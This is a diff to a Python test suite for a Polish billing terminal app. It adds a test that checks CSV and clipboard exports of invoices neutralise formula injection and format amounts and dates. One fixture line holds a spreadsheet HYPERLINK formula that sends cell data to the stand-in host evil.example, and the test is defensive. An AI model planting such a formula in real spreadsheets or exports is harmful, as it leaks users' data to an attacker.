@@ -91,7 +91,7 @@ async def test_every_list_exports_csv_and_copies_tsv(console: Console) -> None:
         await settle(pilot)
         files = list(console.downloads.glob("ibok-faktury-*.csv"))
         assert len(files) == 1
-        with files[0].open(encoding="utf-8") as handle:
+        with files[0].open(encoding="utf-8-sig") as handle:
             rows = list(csv.reader(handle, delimiter=";"))
         assert rows[0][0] == "Numer" and len(rows) == 37
         assert rows[1][0] == "FV/100001/036"
@@ -153,3 +153,50 @@ async def test_settings_export_and_block_access(console: Console) -> None:
         assert isinstance(app.screen, LoginScreen)
     row = console.service.store.one("SELECT status FROM customers WHERE number = '100001'")
     assert row is not None and row["status"] == AccountStatus.BLOCKED_BY_CUSTOMER.value
+
+
+async def test_faktury_exported_reads_back_as_numbers_dates_and_neutralised_text(
+    console: Console,
+) -> None:
+    """A hostile invoice number becomes text; amounts are numbers; dates ISO (issue #11)."""
+    import dataclasses
+
+    from ibok_tui.screens.invoices import InvoicesScreen
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1;"Faktura")'
+    app = console.app(console.backend("100001"))
+    async with app.run_test(size=SIZE) as pilot:
+        for language, delimiter, to_pay in (
+            ("pl", ";", "Do zapłaty [zł]"),
+            ("en", ",", "To pay [PLN]"),
+        ):
+            if language == "en":
+                await app.change_language("en")
+            await pilot.press("2")
+            await settle(pilot)
+            screen = app.screen
+            assert isinstance(screen, InvoicesScreen)
+            first = screen.invoices[0]
+            screen.invoices[0] = dataclasses.replace(first, number=hostile)  # a hostile server
+            screen.refill()
+            await settle(pilot)
+            for old in console.downloads.glob("*.csv"):
+                old.unlink()
+            await pilot.press("e")
+            await settle(pilot)
+            (path,) = console.downloads.glob("ibok-faktury-*.csv")
+            assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+            with path.open(encoding="utf-8-sig", newline="") as handle:
+                rows = list(csv.reader(handle, delimiter=delimiter))
+            header = rows[0]
+            assert to_pay in header
+            assert len(rows) == 37 and all(len(r) == len(header) for r in rows)
+            row = dict(zip(header, rows[1], strict=True))
+            assert row[header[0]] == "'" + hostile
+            amount = f"{first.to_pay / 100:.2f}"
+            assert row[to_pay] == (amount.replace(".", ",") if language == "pl" else amount)
+            assert row[header[2]] == first.issue_date.isoformat()
+            assert not any("zł" in c or "PLN" in c for r in rows[1:] for c in r)
+            await pilot.press("c")
+            copied = list(csv.reader(app.clipboard.splitlines(), dialect="excel-tab"))
+            assert copied[1][0] == "'" + hostile and len(copied) == 37
